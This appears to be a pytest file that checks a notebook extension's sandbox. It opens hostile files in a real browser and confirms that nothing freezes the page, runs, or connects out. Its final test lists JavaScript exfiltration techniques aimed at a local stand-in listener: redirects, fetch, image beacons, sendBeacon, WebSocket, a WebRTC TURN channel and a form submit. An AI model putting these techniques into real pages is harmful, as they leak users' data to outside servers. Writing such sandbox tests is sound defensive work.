"""Whoever looks at what a stranger made goes on working, tells nobody, and runs nothing of it.

Each file of the corpus is selected, then opened, in one tab of a real browser with a meter.
"""

from __future__ import annotations

import socket
import threading
from collections import defaultdict
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path

import psutil
import pytest
from browser_process import fresh_page
from lab_page import SIDEBAR, LabPage
from lab_server import LabServer
from playwright.sync_api import BrowserContext, Page, expect

from hostile.pages import Hostile, corpus

SELECT_MS = 200
OPEN_MS = 500
# Of one process of the browser, the frames' own among them.
MEMORY = 1_500_000_000
LOOK_MS = 400
# What takes too long is looked at again: a busy machine is not the file's fault.
ATTEMPTS = 3

START = "start.txt"

METER = """
window.blocked = [];
new PerformanceObserver(list => {
  for (const { startTime, duration } of list.getEntries()) blocked.push(duration);
}).observe({ type: 'longtask' });
"""


@dataclass
class Looks:
    """What looking at everything did."""

    selected: dict[str, float] = field(default_factory=dict)
    opened: dict[str, float] = field(default_factory=dict)
    memory: int = 0
    connections: list[bytes] = field(default_factory=list)
    asked: set[str] = field(default_factory=set)
    went: set[str] = field(default_factory=set)
    dialogs: list[str] = field(default_factory=list)
    hacked: object = None


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[tuple[str, list[bytes]]]:
    """Another server, and what reached it: a connection alone tells that somebody looks."""
    heard: list[bytes] = []
    listening = socket.create_server(("127.0.0.1", 0))

    def listen() -> None:
        with suppress(OSError):
            while True:
                connection, _ = listening.accept()
                connection.settimeout(1)
                with connection, suppress(OSError):
                    heard.append(connection.recv(100))

    threading.Thread(target=listen, daemon=True).start()
    yield f"http://127.0.0.1:{listening.getsockname()[1]}", heard
    listening.close()


@pytest.fixture(scope="module")
def files(
    server: LabServer, elsewhere: tuple[str, list[bytes]], tmp_path_factory: pytest.TempPathFactory
) -> list[Hostile]:
    folder = tmp_path_factory.mktemp("hostile")
    files = list(corpus(elsewhere[0]))
    by_type: dict[str, list[str]] = defaultdict(list)
    for one in files:
        assert len(one.content) <= 10_000_000, one.name
        (folder / one.name).write_bytes(one.content)
        by_type[one.media_type].append(str(folder / one.name))
    for media_type, paths in by_type.items():
        server.cellkeep("put", "--run", "strange", "-c", "input", "--type", media_type, *paths)
    # The newest is the first of the list: there the looking starts.
    (folder / START).write_text("harmless")
    server.cellkeep("put", "--run", "strange", "-c", "input", str(folder / START))
    return files


@pytest.fixture(scope="module")
def looks(
    context: BrowserContext,
    server: LabServer,
    files: list[Hostile],
    elsewhere: tuple[str, list[bytes]],
) -> Looks:
    looks = Looks(connections=elsewhere[1])
    with fresh_page(context, server) as page, measured_memory(looks):
        page.add_init_script(METER)
        # What a policy stops is no answer.
        page.on("response", lambda one: looks.asked.add(one.url[:80]))
        page.on("framenavigated", lambda frame: looks.went.add(frame.url[:80]))

        def dismiss(dialog) -> None:  # type: ignore[no-untyped-def]
            looks.dialogs.append(dialog.message)
            dialog.dismiss()

        page.on("dialog", dismiss)
        lab = LabPage(page, server).open()
        select_all(lab, files, looks)
        ids = {item["name"]: item["id"] for item in lab.stored()}
        for one in files:
            for _ in range(ATTEMPTS):
                took = opened(lab, ids[one.name])
                looks.opened[one.name] = min(took, looks.opened.get(one.name, took))
                if took < OPEN_MS:
                    break
        page.wait_for_timeout(500)
        looks.hacked = page.evaluate("window.hacked")
    print_looks(looks)
    return looks


def select_all(lab: LabPage, files: list[Hostile], looks: Looks) -> None:
    """Go down the list with the arrow key."""
    page = lab.page
    lab.show_sidebar()
    # The launcher takes the focus when it is there.
    page.locator(".jp-LauncherCard").first.wait_for(timeout=20_000)
    row = lab.row(START)
    row.click()
    look(page)
    row.focus()
    name = START
    while len(looks.selected) < len(files):
        page.keyboard.press("ArrowDown")
        name = selected(page, after=name)
        looks.selected[name] = look(page)
        for _ in range(ATTEMPTS - 1):
            if looks.selected[name] < SELECT_MS:
                break
            page.keyboard.press("ArrowUp")
            selected(page, after=name)
            page.keyboard.press("ArrowDown")
            looks.selected[name] = min(look(page), looks.selected[name])


def selected(page: Page, after: str) -> str:
    """The name in the preview, as soon as it is another."""
    preview = page.locator(f"{SIDEBAR} .jp-Cellkeep-Preview")
    expect(preview).not_to_have_attribute("aria-label", f"Preview of {after}")
    return (preview.get_attribute("aria-label") or "").removeprefix("Preview of ")


def look(page: Page) -> float:
    """The longest time for which the page did nothing else while a person looks at it."""
    page.wait_for_timeout(LOOK_MS)
    return worst(page)


def opened(lab: LabPage, artifact: str) -> float:
    lab.command("application:close-all")
    worst(lab.page)
    lab.command("cellkeep:open-artifact", artifactId=artifact)
    return look(lab.page)


def worst(page: Page) -> float:
    """The longest time for which the page did nothing else, since this was asked last."""
    return float(page.evaluate("Math.max(0, ...blocked.splice(0))"))


class measured_memory:  # noqa: N801 - it is used as a function
    """Notes the most that one process of the browser takes."""

    def __init__(self, looks: Looks) -> None:
        self._looks = looks
        self._ended = threading.Event()

    def __enter__(self) -> None:
        threading.Thread(target=self._watch, daemon=True).start()

    def __exit__(self, *_: object) -> None:
        self._ended.set()

    def _watch(self) -> None:
        this = psutil.Process()
        while not self._ended.wait(0.3):
            for process in this.children(recursive=True):
                with suppress(psutil.Error):
                    if "renderer" in " ".join(process.cmdline()):
                        self._looks.memory = max(self._looks.memory, process.memory_info().rss)


def print_looks(looks: Looks) -> None:
    for what, times in [("select", looks.selected), ("open", looks.opened)]:
        slowest = sorted(times.items(), key=lambda item: -item[1])[:8]
        print(f"\n{what}:", ", ".join(f"{name} {took:.0f} ms" for name, took in slowest))
    print(f"most memory of a process: {looks.memory / 1e6:.0f} MB")


def test_selecting_never_stops_the_page(looks: Looks, files: list[Hostile]) -> None:
    assert set(looks.selected) == {one.name for one in files}
    assert {name: took for name, took in looks.selected.items() if took > SELECT_MS} == {}


def test_opening_never_stops_the_page(looks: Looks, files: list[Hostile]) -> None:
    assert set(looks.opened) == {one.name for one in files}
    assert {name: took for name, took in looks.opened.items() if took > OPEN_MS} == {}


def test_nothing_takes_the_machine_s_memory(looks: Looks) -> None:
    assert 0 < looks.memory < MEMORY


def test_nobody_is_told(looks: Looks, server: LabServer) -> None:
    ours = (server.url, f"ws{server.url[4:]}", "data:", "blob:", "about:")
    assert looks.connections == []
    assert [url for url in looks.asked if not url.startswith(ours)] == []
    # A frame of theirs that the policy stops shows the browser's own error.
    stopped = ("chrome-error:",)
    assert [url for url in looks.went if url and not url.startswith(ours + stopped)] == []


def test_nothing_of_theirs_runs_in_the_page(looks: Looks) -> None:
    assert looks.dialogs == []
    assert looks.hacked is None


def test_scripts_that_a_person_lets_run_reach_nobody(
    context: BrowserContext, server: LabServer, elsewhere: tuple[str, list[bytes]], tmp_path: Path
) -> None:
    address, heard = elsewhere
    ways = [
        f"location = '{address}/self'",
        f"top.location = '{address}/top'",
        f"parent.location = '{address}/parent'",
        f"open('{address}/open')",
        f"fetch('{address}/fetch', {{mode: 'no-cors'}}).catch(() => 0)",
        f"new Image().src = '{address}/image'",
        f"navigator.sendBeacon('{address}/beacon')",
        f"new WebSocket('{address.replace('http', 'ws')}/socket')",
        # By TCP, so that `elsewhere` hears of it.
        f"const turn = {{urls: 'turn:{address[7:]}?transport=tcp', username: 'a', credential: 'b'}}"
        ";const call = new RTCPeerConnection({iceServers: [turn]}); call.createDataChannel('x');"
        "call.createOffer().then(offer => call.setLocalDescription(offer))",
        f"document.body.innerHTML += '<form id=f action={address}/form></form>'; f.submit()",
    ]
    tries = "".join(f"<script>try {{ {way} }} catch (error) {{}}</script>" for way in ways)
    done = "<script>document.body.append('it ran')</script>"
    (tmp_path / "goes.html").write_text(f"<!doctype html><p></p>{done}{tries}")
    server.cellkeep("put", "--run", "goes", "-c", "input", str(tmp_path / "goes.html"))
    heard.clear()
    with fresh_page(context, server) as page:
        lab = LabPage(page, server).open()
        [its] = [item["id"] for item in lab.stored() if item["name"] == "goes.html"]
        lab.command("cellkeep:open-artifact", artifactId=its)
        page.get_by_role("button", name="Run scripts in the sandbox").click()
        page.wait_for_timeout(1500)
        assert page.url.startswith(server.url)
        urls = {frame.url for frame in page.frames}
    # Chromium opens a connection before it asks the policy; nothing is sent in it.
    assert [data for data in heard if data] == []
    assert not [url for url in urls if url.startswith(address)]
